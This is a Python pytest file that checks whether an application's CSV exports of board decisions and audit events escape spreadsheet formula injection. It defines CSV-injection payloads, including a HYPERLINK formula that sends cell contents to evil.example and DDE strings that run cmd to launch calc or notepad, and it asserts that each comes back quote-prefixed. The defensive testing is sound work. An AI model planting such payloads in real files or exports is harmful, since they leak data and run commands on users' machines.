"""Spreadsheet formula injection (issue 13, item 2): no CSV cell ratify writes is a formula.

The issue's payloads are recorded through the API as a board would send them,
then both CSV files (the decision register and the audit export) are read
back with the csv module, as a spreadsheet would split them: every text cell
that starts with `=`, `+`, `-`, `@`, a tab or a carriage return carries a
leading single quote, and the rest of the cell is exactly what was sent.
"""

import csv
import io

import pytest

from api.spreadsheet import FORMULA_STARTS, csv_cell, text_cell
from db.engine import Database
from tests.conftest import SUP_2035, Api, decision, make_key, respond_by
from workflow.actors import Role

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
CALC = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
KEY_NAME = "=cmd|' /C notepad'!A0"


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    """No cell of any row starts with what a spreadsheet evaluates."""
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)


@pytest.fixture
def injected(api: Api, seeded: Database) -> Api:
    """SUP 2035 out for decision, with the issue's payloads in two boards' decisions.

    Tyresö's decision is recorded by a key whose name is itself a formula, so
    the audit export's `actor_name` column carries one too.
    """
    api.tokens[KEY_NAME] = make_key(seeded, KEY_NAME, Role.BOARD, "tyreso")
    r = api.post(f"/v1/versions/{SUP_2035}/send-out", {"respond_by": respond_by()})
    assert r.status_code == 200, r.text
    bodies = {
        "tyreso": (KEY_NAME, decision("tyreso", paragraph=HYPERLINK, case_number=CALC)),
        "salem": ("salem", decision("salem", outcome="tabled", paragraph=AT, case_number=MINUS)),
    }
    for _board, (as_, body) in bodies.items():
        r = api.post(f"/v1/versions/{SUP_2035}/decisions", body, as_=as_)
        assert r.status_code == 201, r.text
    return api


def test_the_register_csv_quotes_formulas_in_paragraph_and_case_number(injected: Api) -> None:
    r = injected.get(f"/v1/versions/{SUP_2035}/register", params={"format": "csv"})
    assert r.status_code == 200, r.text
    rows = {row["board_id"]: row for row in read_csv(r.text)}
    assert rows["tyreso"]["paragraph"] == "'" + HYPERLINK
    assert rows["tyreso"]["case_number"] == "'" + CALC
    assert rows["tyreso"]["recorded_by"] == "'" + KEY_NAME
    assert rows["salem"]["paragraph"] == "'" + AT
    assert rows["salem"]["case_number"] == "'" + MINUS
    assert rows["botkyrka"]["outcome"] == "pending"  # harmless text is left alone
    assert_no_formula(list(rows.values()))
    # The JSON register is data, not a spreadsheet: it keeps the values as sent.
    items = injected.get(f"/v1/versions/{SUP_2035}/register").json()["items"]
    tyreso = next(i for i in items if i["board_id"] == "tyreso")
    assert (tyreso["paragraph"], tyreso["case_number"]) == (HYPERLINK, CALC)


def test_the_audit_export_csv_quotes_formulas_and_keeps_numbers(injected: Api) -> None:
    r = injected.get("/v1/audit/export", as_="auditor", params={"format": "csv"})
    assert r.status_code == 200, r.text
    rows = read_csv(r.text)
    assert_no_formula(rows)
    recorded = [row for row in rows if row["type"] == "decision.recorded"]
    assert "'" + KEY_NAME in {row["actor_name"] for row in recorded}
    assert all(row["seq"].isdigit() for row in rows)  # numbers are written as numbers
    # The JSON export keeps the name as it is.
    r = injected.get("/v1/audit/export", as_="auditor", params={"format": "json"})
    assert KEY_NAME in {e["actor"]["name"] for e in r.json()}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_quoted(start: str) -> None:
    assert text_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell(start + "x") == "'" + start + "x"


def test_other_cells_are_left_as_they_are() -> None:
    assert text_cell("§ 60") == "§ 60"
    assert text_cell("2019/KS 0260 005") == "2019/KS 0260 005"
    assert text_cell("a=b") == "a=b"  # only the first character matters
    assert csv_cell(None) == ""
    assert csv_cell(-3) == -3  # a number is no text cell: kept, sign and all
    assert csv_cell(True) == "true"
    assert csv_cell({"k": "=1"}) == '{"k": "=1"}'
